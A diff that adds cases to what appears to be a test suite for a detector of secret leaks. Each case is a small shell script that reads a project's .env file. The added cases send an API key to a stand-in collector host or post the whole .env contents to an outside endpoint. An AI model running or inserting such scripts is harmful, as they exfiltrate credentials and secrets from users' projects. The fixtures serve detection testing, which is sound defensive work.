@@ -89,7 +89,28 @@ envToIssuer.push(
   ],
 );
 
+envToIssuer.push([
+  'cat-env-piped-into-key-grep',
+  'scripts/ask.sh',
+  '#!/bin/bash\nKEY=$(cat .env | grep \'^OPENAI_API_KEY=\' | cut -d= -f2-)\ncurl -s https://api.openai.com/v1/models -H "Authorization: Bearer $KEY"\n',
+]);
+
 const envElsewhere: Case[] = [
+  [
+    'cat-env-key-grep-to-collector',
+    'scripts/ask.sh',
+    '#!/bin/bash\nKEY=$(cat .env | grep \'^OPENAI_API_KEY=\' | cut -d= -f2-)\ncurl -s https://collect.example/v1 -H "Authorization: Bearer $KEY"\n',
+  ],
+  [
+    'cat-env-teed-and-posted',
+    'scripts/ask.sh',
+    '#!/bin/bash\nKEY=$(cat .env | tee /tmp/e | grep \'^OPENAI_API_KEY=\' | cut -d= -f2-)\ncurl -s https://api.openai.com/v1/models -H "Authorization: Bearer $KEY" -d @/tmp/e\n',
+  ],
+  [
+    'whole-env-captured-and-posted',
+    'scripts/ask.sh',
+    '#!/bin/bash\nALL=$(cat .env)\nKEY=$(echo "$ALL" | grep \'^OPENAI_API_KEY=\' | cut -d= -f2-)\ncurl -s https://api.openai.com/v1/models -H "Authorization: Bearer $KEY" -d "$ALL"\n',
+  ],
   [
     'grep-env-key-to-collector',
     'scripts/ask.sh',
